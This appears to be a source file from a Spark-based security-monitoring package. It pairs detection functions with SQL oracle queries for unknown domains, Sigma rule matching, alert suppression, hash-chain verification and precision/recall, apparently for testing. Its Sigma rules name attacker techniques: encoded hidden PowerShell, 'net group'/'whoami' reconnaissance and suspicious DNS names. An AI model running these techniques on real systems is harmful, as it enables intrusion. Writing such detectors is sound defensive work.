@query(f"WITH {EV} SELECT event_id, domain FROM ev WHERE domain IS NOT NULL AND NOT {INTERNAL} AND NOT (domain LIKE '%.site1.example.com' OR domain LIKE '%.site2.example.com')")
def unknown_domains(spark, sf_dir):
    known = spark.createDataFrame([("site1.example.com",), ("site2.example.com",)], "domain string")
    return detect.unknown_domains(security_events(spark, sf_dir), known)


SIGMA_RULES = [
    {"id": "r1", "title": "Encoded PowerShell", "level": "high", "logsource": {"product": "windows", "category": "process_creation"}, "detection": {"sel": {"Image|endswith": "\\powershell.exe", "CommandLine|contains|all": ["-enc", "-nop"]}, "condition": "sel"}, "tags": ["attack.t1059.001"]},
    {"id": "r2", "title": "Group listing", "level": "medium", "logsource": {"category": "process_creation"}, "detection": {"a": {"CommandLine|contains": ["net group", "whoami"]}, "b": {"ParentImage|endswith": "\\winword.exe"}, "condition": "a and not b"}},
    {"id": "r3", "title": "Odd zone", "level": "low", "logsource": {"category": "dns"}, "detection": {"q1": {"QueryName": "x7f*.xyz"}, "q2": {"QueryName|startswith": "files5"}, "condition": "1 of q*"}},
]


@query(
    rf"""WITH {EV}, h AS (SELECT *, coalesce(process = 'powershell.exe' AND command_line LIKE '%-enc%' AND command_line LIKE '%-nop%', false) AS r1,
 coalesce((command_line LIKE '%net group%' OR command_line LIKE '%whoami%') AND parent_process <> 'winword.exe', false) AS r2, coalesce(domain LIKE 'x7f%.xyz' OR domain LIKE 'files5%', false) AS r3 FROM ev),
t AS (SELECT *, greatest(CASE WHEN r1 THEN 3 ELSE -1 END, CASE WHEN r2 THEN 2 ELSE -1 END, CASE WHEN r3 THEN 1 ELSE -1 END) AS top FROM h)
SELECT event_id, concat_ws(',', CASE WHEN r1 THEN 'sigma:r1' END, CASE WHEN r2 THEN 'sigma:r2' END, CASE WHEN r3 THEN 'sigma:r3' END) AS rules, CASE WHEN top > {RANK} THEN ['info', 'low', 'medium', 'high', 'critical'][top + 1] ELSE severity END AS severity, suspicious OR top >= 2 AS suspicious FROM t"""
)
def match_sigma(spark, sf_dir):
    out = detect.match_sigma(security_events(spark, sf_dir), [detect.compile_sigma(r) for r in SIGMA_RULES])
    return out.select("event_id", F.array_join(F.filter("tags", lambda t: t.startswith("sigma:")), ",").alias("rules"), "severity", "suspicious")


@query(f"WITH {EV}, s AS (SELECT DISTINCT action, lower(coalesce(process, domain, '')) AS i, {PRIMARY} AS h, coalesce(user, '') AS u FROM ev WHERE suspicious AND source_host = 'HOST-5') SELECT event_id, s.u IS NOT NULL AS suppressed FROM ev LEFT JOIN s ON ev.action = s.action AND lower(coalesce(process, domain, '')) = s.i AND {PRIMARY} = s.h AND coalesce(user, '') = s.u")
def apply_feedback(spark, sf_dir):
    events = security_events(spark, sf_dir)
    rejected = detect.new_suppressions(events, events.where("suspicious and source_host = 'HOST-5'"))
    return detect.apply_feedback(events, rejected).select("event_id", F.col("suppressed").isNotNull().alias("suppressed"))


@query(
    """WITH b AS (SELECT conv_id, turn, coalesce(length(text) % 37 = 0, false) AS changed FROM conversations), c AS (SELECT *, turn <> coalesce(lag(turn) OVER w + 1, turn) OR changed OR coalesce(lag(changed) OVER w, false) AS bad FROM b WINDOW w AS (PARTITION BY conv_id ORDER BY turn))
SELECT conv_id, count(*) AS entries, min(turn) FILTER (WHERE bad) AS first_broken, NOT bool_or(bad) AS intact FROM c GROUP BY conv_id"""
)
def verify_hash_chain(spark, sf_dir):
    """Entries are sealed in order of turn, then some hashes are changed; they, the entries after them and those after a missing turn are broken."""
    rows = table(spark, sf_dir, "conversations").select("conv_id", F.col("turn").cast("bigint").alias("turn"), F.concat_ws("|", "role", F.coalesce("text", F.lit(""))).alias("body"), F.coalesce(F.length("text") % 37 == 0, F.lit(False)).alias("changed"))
    none = rows.select("conv_id", F.lit(0).cast("long").alias("seq"), F.lit("").alias("hash")).where(F.lit(False))
    log = findings.append_hash_chain(rows, none, "conv_id", "turn", "body")
    log = log.withColumn("hash", F.when(F.col("changed"), F.reverse("hash")).otherwise(F.col("hash")))
    return views.verify_hash_chain(log, "conv_id", "turn", "prev_hash", "hash", F.col("body"))


@query(
    f"""WITH RECURSIVE {COMPONENTS}, n AS (SELECT count(*) FILTER (WHERE chain_key IS NOT NULL AND suspicious) AS hits, count(*) FILTER (WHERE chain_key IS NOT NULL AND NOT suspicious) AS false_alarms, count(*) FILTER (WHERE chain_key IS NULL AND suspicious) AS missed FROM ev LEFT JOIN mem USING (event_id))
SELECT *, CASE WHEN hits + false_alarms > 0 THEN round(hits / (hits + false_alarms), 6) ELSE 0.0 END AS precision, CASE WHEN hits + missed > 0 THEN round(hits / (hits + missed), 6) ELSE 0.0 END AS recall FROM n"""
)
def precision_recall(spark, sf_dir):
    events = stored(security_events(spark, sf_dir), "events")
    return views.precision_recall(chains.chain_members(events, correlate.connecting_links(events)), events.where("suspicious"), "event_id")


def queries() -> dict[str, Callable[[SparkSession, str], DataFrame]]:
    from socspark.plans import case_queries, entity_queries, file_queries, graph_queries, rule_queries, source_queries, stream_queries  # noqa: F401

    return dict(QUERIES)


def oracle_sql() -> dict[str, str]:
    from socspark.plans import case_queries, entity_queries, file_queries, graph_queries, rule_queries, source_queries, stream_queries  # noqa: F401

    return dict(SQL)
